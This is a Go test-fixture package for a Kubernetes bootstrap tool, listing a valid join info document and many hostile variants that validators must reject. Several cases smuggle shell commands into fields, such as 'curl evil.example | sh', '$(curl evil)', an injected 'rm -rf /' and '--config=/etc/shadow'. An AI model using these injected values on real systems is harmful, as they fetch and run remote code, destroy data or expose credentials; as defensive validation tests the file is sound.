// Package jointest holds join info documents for tests: a valid one and the
// malformed or hostile ones every reader must refuse.
package jointest

import (
	"encoding/json"
	"strings"
	"time"

	"github.com/kubestrap/kubestrap/internal/join"
)

// Now is when the test documents were issued; they are valid for two hours.
var Now = time.Date(2026, 11, 26, 3, 0, 0, 0, time.UTC)

// ValidDoc returns a valid join info document (cluster "demo") as a map, for tests to mutate.
func ValidDoc() map[string]any {
	return map[string]any{
		"apiVersion":        join.APIVersion,
		"kind":              join.Kind,
		"cluster":           "demo",
		"apiServerEndpoint": "10.0.1.10:6443",
		"token":             "abcdef.0123456789abcdef",
		"caCertHashes":      []any{"sha256:" + strings.Repeat("ab", 32)},
		"kubernetesVersion": "v1.37.2",
		"issuedAt":          Now.Format(time.RFC3339),
		"expiresAt":         Now.Add(2 * time.Hour).Format(time.RFC3339),
		"generation":        7,
	}
}

// MustJSON encodes v.
func MustJSON(v any) []byte {
	b, _ := json.Marshal(v) // maps of plain values always encode
	return b
}

// With returns the valid document with key set to value.
func With(key string, value any) []byte {
	d := ValidDoc()
	d[key] = value
	return MustJSON(d)
}

// Without returns the valid document without key.
func Without(key string) []byte {
	d := ValidDoc()
	delete(d, key)
	return MustJSON(d)
}

// HostileCase is one malformed or hostile join info document.
type HostileCase struct {
	Name string
	Body []byte
	// Field is the field the rejection must name ("" for whole-document problems).
	Field string
}

// HostileCases are the malformed and hostile documents every reader must refuse.
func HostileCases() []HostileCase {
	shellToken := "abcdef.0123456789abcdef; curl evil.example | sh"
	return []HostileCase{
		{"shell metacharacters in endpoint", With("apiServerEndpoint", "10.0.1.10:6443;reboot"), "apiServerEndpoint"},
		{"command substitution in endpoint", With("apiServerEndpoint", "$(curl evil):6443"), "apiServerEndpoint"},
		{"flag injection in endpoint", With("apiServerEndpoint", "--config=/etc/shadow"), "apiServerEndpoint"},
		{"URL instead of host:port", With("apiServerEndpoint", "https://10.0.1.10:6443"), "apiServerEndpoint"},
		{"endpoint without port", With("apiServerEndpoint", "10.0.1.10"), "apiServerEndpoint"},
		{"endpoint port out of range", With("apiServerEndpoint", "10.0.1.10:70000"), "apiServerEndpoint"},
		{"endpoint port zero", With("apiServerEndpoint", "10.0.1.10:0"), "apiServerEndpoint"},
		{"newline in endpoint", With("apiServerEndpoint", "10.0.1.10:6443\nrm -rf /"), "apiServerEndpoint"},
		{"non-ASCII host", With("apiServerEndpoint", "kubé.example.com:6443"), "apiServerEndpoint"},
		{"path in endpoint", With("apiServerEndpoint", "api.example.com:6443/evil"), "apiServerEndpoint"},
		{"shell metacharacters in token", With("token", shellToken), "token"},
		{"flag injection in token", With("token", "--discovery-token-unsafe-skip-ca-verification"), "token"},
		{"uppercase token", With("token", "ABCDEF.0123456789ABCDEF"), "token"},
		{"short token secret", With("token", "abcdef.0123"), "token"},
		{"newline in token", With("token", "abcdef.0123456789abcdef\n"), "token"},
		{"no CA hashes", With("caCertHashes", []any{}), "caCertHashes"},
		{"null CA hashes", With("caCertHashes", nil), "caCertHashes"},
		{"bad hash algorithm", With("caCertHashes", []any{"md5:" + strings.Repeat("ab", 16)}), "caCertHashes[0]"},
		{"uppercase hash hex", With("caCertHashes", []any{"sha256:" + strings.Repeat("AB", 32)}), "caCertHashes[0]"},
		{"hash with shell suffix", With("caCertHashes", []any{"sha256:" + strings.Repeat("ab", 32) + "`id`"}), "caCertHashes[0]"},
		{"flag injection in hash", With("caCertHashes", []any{"--discovery-token-unsafe-skip-ca-verification"}), "caCertHashes[0]"},
		{"wrong cluster", With("cluster", "prod"), "cluster"},
		{"shell metacharacters in cluster", With("cluster", "demo;id"), "cluster"},
		{"unknown apiVersion", With("apiVersion", "kubestrap.dev/v2"), "apiVersion"},
		{"wrong kind", With("kind", "Secret"), "kind"},
		{"expired", With("expiresAt", Now.Add(-time.Minute).Format(time.RFC3339)), "expiresAt"},
		{"expires inside the safety margin", With("expiresAt", Now.Add(30*time.Second).Format(time.RFC3339)), "expiresAt"},
		{"issued in the future", With("issuedAt", Now.Add(time.Hour).Format(time.RFC3339)), "issuedAt"},
		{"non-ASCII kubernetesVersion", With("kubernetesVersion", "v1.37.2‮"), "kubernetesVersion"},
		{"flag in kubernetesVersion", With("kubernetesVersion", "--v=10"), "kubernetesVersion"},
		{"zero generation", With("generation", 0), "generation"},
		{"negative generation", With("generation", -3), "generation"},
		{"missing token", Without("token"), "token"},
		{"missing endpoint", Without("apiServerEndpoint"), "apiServerEndpoint"},
		{"missing expiresAt", Without("expiresAt"), "expiresAt"},
		{"missing apiVersion", Without("apiVersion"), "apiVersion"},
		{"unknown field", With("command", "kubeadm join --token x"), ""},
		{"duplicate key", []byte(`{"token":"abcdef.0123456789abcdef","token":"zzzzzz.0123456789abcdef"}`), ""},
		{"generation as string", With("generation", "7"), ""},
		{"not JSON", []byte("#!/bin/sh\nkubeadm join 10.0.1.10:6443 --token abcdef.0123456789abcdef\n"), ""},
		{"JSON array", []byte(`[1,2,3]`), ""},
		{"empty object", []byte(""), ""},
		{"oversize object", append(With("kind", join.Kind), []byte(strings.Repeat(" ", join.MaxSize))...), ""},
		{"trailing garbage", append(MustJSON(ValidDoc()), []byte(" {}")...), ""},
	}
}
